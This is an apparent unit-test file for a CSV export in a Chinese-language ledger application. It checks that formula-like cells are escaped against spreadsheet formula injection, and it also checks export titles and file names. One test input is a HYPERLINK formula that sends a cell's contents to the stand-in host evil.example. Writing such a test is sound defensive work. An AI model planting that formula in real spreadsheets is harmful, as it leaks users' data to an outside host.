import { parse } from 'csv-parse/sync';
import { exportFileName, tableToCsv } from './export-files.js';
import type { ExportTable } from './export-table.js';

/*
 * Imported ledgers come from outside the office (evaluators, units); the CSV export is opened in
 * Excel or WPS on leaders' desktops. A cell that would run as a formula must arrive as text.
 */
describe('CSV export', () => {
  const table = (cells: (string | number)[]): ExportTable => ({
    title: '整改台账',
    asOf: '2026-06-08',
    knownAt: null,
    columns: cells.map((_, index) => ({ header: `列${index + 1}`, width: 10 })),
    rows: [{ light: null, cells }],
  });
  const readBack = (bytes: Buffer): string[][] => parse(bytes.toString('utf8').replace(/^\uFEFF/, ''));

  it('given cells starting with = + - @, a tab or a carriage return, writes them as text behind an apostrophe', () => {
    const [, row] = readBack(
      tableToCsv(table(['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+问题二', '-措施', '@SUM(1+1)', '\t=1+1', '\r=1+1'])),
    );
    expect(row).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+问题二", "'-措施", "'@SUM(1+1)", "'\t=1+1", "'\r=1+1"]);
  });

  it('keeps ordinary text and numbers, negative numbers (days overdue) included, as they are', () => {
    const [, row] = readBack(tableToCsv(table(['网上依申请公开渠道未开通', 3, -5, 'A-1', ''])));
    expect(row).toEqual(['网上依申请公开渠道未开通', '3', '-5', 'A-1', '']);
  });
});

describe('a record-time reading (knownAt) cannot be taken for the corrected ledger of the same day (breaker8b N5)', () => {
  const table: ExportTable = {
    title: '整改台账（截至 2016-06-13，按 2026-11-30T10:31:00.123Z 前已录入的记录）',
    asOf: '2016-06-13',
    knownAt: '2026-11-30T10:31:00.123Z',
    columns: [{ header: '问题', width: 10 }],
    rows: [{ light: null, cells: ['网上依申请公开渠道未开通'] }],
  };
  const readBack = (bytes: Buffer): string[][] => parse(bytes.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });

  it('its CSV starts with the title saying which records it holds; the corrected reading has no title row', () => {
    expect(readBack(tableToCsv(table))).toEqual([[table.title], ['问题'], ['网上依申请公开渠道未开通']]);
    expect(readBack(tableToCsv({ ...table, title: '整改台账（截至 2016-06-13）', knownAt: null }))).toEqual([['问题'], ['网上依申请公开渠道未开通']]);
  });

  it('its file name carries the instant (UTC, no colons); the corrected reading is named by the day only', () => {
    expect(exportFileName('ledger', '2016-06-13', 'csv', table.knownAt)).toBe('整改台账-2016-06-13-记录截至20261130T103100Z.csv');
    expect(exportFileName('work-plan', '2016-06-13', 'xlsx', table.knownAt)).toBe('工作方案进展-2016-06-13-记录截至20261130T103100Z.xlsx');
    expect(exportFileName('ledger', '2016-06-13', 'csv')).toBe('整改台账-2016-06-13.csv');
  });
});
